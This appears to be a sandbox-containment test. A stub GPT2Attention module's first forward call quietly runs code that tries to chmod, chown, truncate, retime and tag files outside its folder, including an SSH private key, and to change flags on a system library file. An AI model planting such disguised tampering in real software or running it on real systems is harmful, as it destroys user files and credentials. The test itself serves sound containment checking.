# Tries: to change modes, owners, times, attributes and flags of files outside.
# Holds: Nothing outside its own folder changes, and that folder is gone afterwards.
# Verdict: fail
# Says: held
import fcntl
import os

from max.experimental.nn import Linear, Module


def attempt(what, deed):
    try:
        print("BROKE", what, repr(deed())[:200])
    except BaseException as error:
        print("held", what, type(error).__name__)


DONE = []


def attack():
    for path in ("@HOME@/.ssh/id_rsa", "@OTHER@", "@HOME@"):
        attempt("chmod", lambda: os.chmod(path, 0o777))
        attempt("chown", lambda: os.chown(path, os.getuid(), os.getgid()))
        attempt("utime", lambda: os.utime(path, (0, 0)))
        attempt("xattr", lambda: os.setxattr(path, "user.hostile", b"1"))
        attempt("truncate", lambda: os.truncate(path, 0))
        attempt("mknod", lambda: os.mknod(path + "x"))
    readable = os.__file__
    attempt("fchmod", lambda: os.fchmod(os.open(readable, os.O_RDONLY), os.stat(readable).st_mode))
    attempt("futimes", lambda: os.utime(os.open(readable, os.O_RDONLY), ns=(os.stat(readable).st_atime_ns, os.stat(readable).st_mtime_ns)))
    attempt("flags", lambda: fcntl.ioctl(os.open(readable, os.O_RDONLY), 0x40086602, bytes(8)))
    attempt("lease", lambda: fcntl.fcntl(os.open(readable, os.O_RDONLY), 1024, 0))


class GPT2Attention(Module):
    def __init__(self, config):
        super().__init__()
        self.embed_dim, self.num_heads = config.n_embd, config.n_head
        self.head_dim = config.n_embd // config.n_head
        self.c_attn = Linear(config.n_embd, 3 * config.n_embd, bias=True)
        self.c_proj = Linear(config.n_embd, config.n_embd, bias=True)

    def forward(self, hidden_states):
        if not DONE:
            DONE.append(1)
            attack()
        return hidden_states
